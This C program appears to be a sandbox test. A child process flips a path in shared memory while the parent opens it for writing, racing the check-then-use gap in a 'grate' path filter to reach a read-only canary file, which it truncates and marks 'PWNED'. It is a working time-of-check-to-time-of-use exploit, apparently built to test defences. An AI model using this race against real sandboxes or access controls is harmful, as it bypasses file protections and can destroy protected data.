/* Races a grate's path check: a forked child flips a path in MAP_SHARED memory
 * between an allowed file and /ro/canary.txt while the parent opens it for writing,
 * up to argv[1] times (default 50000), stopping at the first open that reaches the
 * canary itself. The two paths differ in one byte, so every read of the path is one of
 * the two, never a mix. Prints "hits=H opened=O tries=T". */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char canary[] = "/ro/canary.txt";
static const char allowed[] = "/rw/canary.txt";

int main(int argc, char **argv)
{
	int tries = argc > 1 ? atoi(argv[1]) : 50000;
	unsigned dwell = argc > 2 ? (unsigned)atoi(argv[2]) : 300;   /* spins per state, at most */
	struct stat cst;
	if (stat(canary, &cst) != 0) {
		printf("no canary\n");
		return 1;
	}
	char *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	volatile char *flip = page + 2, *stop = page + 2048;
	memcpy(page, allowed, sizeof allowed);
	pid_t child = fork();
	if (child == 0) {
		/* Each state lasts a varying while, so flips fall between a check and
		 * the use that follows it, whatever that window's length. */
		unsigned seed = 1;
		while (!*stop) {
			seed = seed * 1103515245 + 12345;
			*flip = canary[2];
			for (volatile unsigned spin = (seed >> 16) % dwell; spin; spin--)
				;
			*flip = allowed[2];
			for (volatile unsigned spin = (seed >> 4) % dwell; spin; spin--)
				;
		}
		_exit(0);
	}
	int hits = 0, opened = 0, i;
	for (i = 0; i < tries && !hits; i++) {
		int fd = open(page, O_WRONLY | O_TRUNC | O_CREAT, 0644);
		if (fd < 0)
			continue;
		opened++;
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_ino == cst.st_ino && st.st_dev == cst.st_dev) {
			hits++;
			write(fd, "PWNED", 5);
		}
		close(fd);
	}
	*stop = 1;
	waitpid(child, NULL, 0);
	printf("hits=%d opened=%d tries=%d\n", hits, opened, i);
	return 0;
}
